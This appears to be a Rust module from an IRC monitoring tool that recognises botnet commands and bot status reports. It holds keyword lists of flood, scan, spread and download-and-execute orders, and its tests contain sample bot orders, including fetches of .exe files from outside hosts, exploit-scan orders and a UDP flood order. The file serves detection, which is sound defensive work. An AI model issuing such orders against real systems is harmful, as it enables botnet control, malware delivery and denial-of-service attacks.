//! What is said to bots and what bots say: orders (`.dl http://…exe`, `.asc dcom135 200 0 0 -r -s`, `!* UDP …`), and reports
//! (`[DOWNLOAD]: …`, `reporting, proxy …`). The forms are those of S1 and of the families that the Honeynet Project described
//! (Agobot, SDBot, RBot, GT-Bot, Kaiten). A word alone is no order: people write "download" and "update" too.

use crate::contains;

/// Words that nobody says but to a bot, with at least one argument behind.
const BOT_WORDS: &[&str] = &[
    "advscan",
    "asc",
    "ascan",
    "adv.start",
    "ipscan",
    "scanall",
    "ntscan",
    "ntstats",
    "scan.start",
    "scan.startall",
    "cvar.set",
    "wormride",
    "ddos",
    "ddos.syn",
    "ddos.ack",
    "ddos.udp",
    "ddos.random",
    "synflood",
    "udpflood",
    "tcpflood",
    "icmpflood",
    "pingflood",
    "httpflood",
    "udp.flood",
    "syn.flood",
    "udp.start",
    "ddos.httpflood",
    "ddos.synflood",
    "ddos.udpflood",
    "ddos.phatwonk",
    "rndnick",
    "c_rndnick",
    "socks4",
    "redirect.tcp",
    "redirect.socks",
    "spam.start",
    "mail.start",
    "harvest.emails",
    "usb.spread",
    "msn.spread",
    "im.spread",
    "wonk",
    "supersyn",
    "slowloris",
    "bitkill",
    "portscan",
    "rootlist",
];
/// Words that are an order with a URL or an address behind.
const FETCH_WORDS: &[&str] = &[
    "dl",
    "download",
    "down",
    "update",
    "http.update",
    "http.download",
    "http.execute",
    "ftp.update",
    "ftp.download",
    "ftp.execute",
    "dlexec",
    "dx",
    "get",
    "wget",
    "visit",
    "http.visit",
    "execute",
    "exec",
    "open",
    "syn",
    "udp",
    "tcp",
    "ping",
    "flood",
    "attack",
    "scan",
    "redirect",
    "upgrade",
    "login",
    "install",
    "run",
    "spread",
];
/// Orders of Kaiten and its heirs, behind `!` and a mask of nicknames.
const MASK_WORDS: &[&str] =
    &["PAN", "UDP", "TSUNAMI", "UNKNOWN", "SH", "GET", "SPOOFS", "KILLALL", "KILL", "SERVER", "STD", "HTTP", "ACK", "SYN", "BASH"];
/// What stands before an order.
const MARKS: &[u8] = b".!@$*~&?%-+`,;^=/#";
/// What stands between several orders of one line.
const BETWEEN: &[u8] = b"|[]";
/// Orders of one line that are looked at.
const PARTS_MAX: usize = 16;
/// What bots report, in lower case.
const REPORTS: &[&[u8]] = &[
    b"reporting, proxy",
    b"exploiting ip",
    b"exploited ip",
    b"scanning threads",
    b"scanning range",
    b"portscan:",
    b"downloading url:",
    b"bytes downloaded",
    b"file transfer complete",
    b"transfer to ip",
    b"attempting to root",
    b"password accepted",
    b"random port scan",
    b"port scan started",
    b"flooding:",
    b"done with flood",
    b"socks4 server",
    b"proxy server started",
    b"keylogger active",
    b"bot started",
];
/// The topics of the reports that stand in brackets: `[SCAN]: …`.
const REPORT_HEADS: &[&[u8]] = &[
    b"main",
    b"scan",
    b"download",
    b"update",
    b"ddos",
    b"syn",
    b"udp",
    b"tcp",
    b"icmp",
    b"ping",
    b"ftp",
    b"tftp",
    b"httpd",
    b"http",
    b"proxy",
    b"socks4",
    b"redirect",
    b"exec",
    b"exploit",
    b"lsass",
    b"dcom135",
    b"dcass",
    b"asn1smb",
    b"keylog",
    b"psniff",
    b"sniffer",
    b"threads",
    b"login",
    b"spread",
    b"visit",
];

/// Whether a message or a topic orders a bot to do something.
pub(super) fn is_order(text: &[u8]) -> bool {
    let text = without_colours(text);
    kaiten(&text) || text.split(|byte| BETWEEN.contains(byte)).take(PARTS_MAX).any(is_one)
}

fn is_one(part: &[u8]) -> bool {
    let mut words = part.split(|byte| *byte == b' ').filter(|word| !word.is_empty());
    let Some(mut word) = words.next() else { return false };
    let mut marked = false;
    while let [first, rest @ ..] = word
        && MARKS.contains(first)
    {
        (word, marked) = (rest, true);
    }
    if word.is_empty() {
        // The mark may stand alone: `* ipscan i.i.i.i mssql2000 -s`.
        word = words.next().unwrap_or_default();
    }
    if !marked {
        return false;
    }
    let is = |list: &[&str]| list.iter().any(|known| word.eq_ignore_ascii_case(known.as_bytes()));
    let arguments: Vec<&[u8]> = words.take(PARTS_MAX).collect();
    (is(BOT_WORDS) && !arguments.is_empty()) || (is(FETCH_WORDS) && arguments.iter().any(|argument| is_place(argument)))
}

/// `!` and a mask, then a word in capitals with an argument: `!* UDP 192.0.2.1 60 1400`.
fn kaiten(text: &[u8]) -> bool {
    let Some(rest) = text.strip_prefix(b"!") else { return false };
    let mut words = rest.split(|byte| *byte == b' ').filter(|word| !word.is_empty());
    let (Some(mask), Some(word)) = (words.next(), words.next()) else { return false };
    mask.contains(&b'*') && MASK_WORDS.iter().any(|known| word == known.as_bytes()) && words.next().is_some()
}

/// A URL or an IPv4 address.
fn is_place(word: &[u8]) -> bool {
    let url = [&b"http://"[..], b"https://", b"ftp://"];
    let is_url = url.iter().any(|scheme| word.len() > scheme.len() && word[..scheme.len()].eq_ignore_ascii_case(scheme));
    let is_dotted = word.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b':' | b'/'))
        && word.split(|byte| *byte == b'.').count() == 4;
    is_url || is_dotted
}

/// Whether a message reports what a bot has done.
pub(super) fn is_report(text: &[u8]) -> bool {
    let text = without_colours(text).to_ascii_lowercase();
    let head = text.strip_prefix(b"[").and_then(|rest| Some((rest, rest.iter().position(|byte| *byte == b']')?)));
    let is_head = head.is_some_and(|(rest, end)| {
        let name = rest[..end].trim_ascii();
        rest[end + 1..].starts_with(b":") && REPORT_HEADS.contains(&name)
    });
    is_head || REPORTS.iter().any(|report| contains(&text, report))
}

/// Whether a topic is cipher text: one long word of capitals, small letters and digits.
pub(super) fn is_unreadable(text: &[u8]) -> bool {
    let text = without_colours(text);
    let text = text.trim_ascii();
    let has = |what: fn(&u8) -> bool| text.iter().any(what);
    text.len() >= 24
        && text.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'='))
        && has(u8::is_ascii_uppercase)
        && has(u8::is_ascii_lowercase)
        && has(u8::is_ascii_digit)
}

/// The text without the control characters by which IRC colours it (0x02, 0x03 with its number, 0x0f, 0x16, 0x1f).
fn without_colours(text: &[u8]) -> Vec<u8> {
    let mut plain = Vec::with_capacity(text.len());
    let mut bytes = text.iter().copied().peekable();
    while let Some(byte) = bytes.next() {
        if byte == 3 {
            for _ in 0..2 {
                let _ = bytes.next_if(u8::is_ascii_digit);
            }
        } else if byte >= b' ' {
            plain.push(byte);
        }
    }
    let start = plain.iter().position(|byte| *byte != b' ').unwrap_or(plain.len());
    plain.split_off(start)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_orders_of_s1_are_orders() {
        for order in [
            ".dl http://www.gizahost.com/htri/sbr.exe aaaananz4.exe 1",
            ".asc asn1smb 300 2 0 -r -s",
            ".asc dcom135 200 0 0 -r -s",
            "* download http://www.home.no/chirir0za/wnguards.exe -e -s ] [ * ipscan i.i.i.i mssql2000 -s ][ * wormride -s -t",
            ".advscan lsass 200 5 0 -r",
            "!* UDP 192.0.2.1 60 1400",
            "\u{3}4.update http://192.0.2.7/b.exe",
        ] {
            assert!(is_order(order.as_bytes()), "{order}");
        }
    }

    #[test]
    fn what_people_and_their_helpful_bots_say_is_no_order() {
        for text in [
            "download the new version at http://example.org/setup.exe",
            "Welcome to #debian | update your mirrors | http://www.debian.org/",
            "!seen alice",
            ".weather tokyo",
            "!help download",
            "you can get it from http://example.org/",
            "- update: the server moves on Monday",
            "ping 192.0.2.1 gives nothing",
            "!google udp flood",
        ] {
            assert!(!is_order(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn reports_of_bots_are_told_from_talk() {
        for text in [
            "[DOWNLOAD]: Downloading URL: http://www.gizahost.com/htri/sbr.exe to: aaaananz4.exe.",
            "[SCAN]: Already 301 scanning threads. Too many specified.",
            "[MAIN]: Password accepted.",
            "Slave Y1129 reporting, proxy - 2 , IPv4 address is 192.168.123.113 . .",
        ] {
            assert!(is_report(text.as_bytes()), "{text}");
        }
        for text in [
            "I downloaded it yesterday",
            "[main] is the branch",
            "[update]: see the wiki page?".trim_start_matches("[update]: "),
            "stop flooding the channel",
        ] {
            assert!(!is_report(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn cipher_text_is_no_topic() {
        assert!(is_unreadable(b"q83ltNDQLM2jY1nCfk2XkbW0Uo0a9lLr=="));
        assert!(!is_unreadable(b"Welcome to the channel of the century"));
    }
}
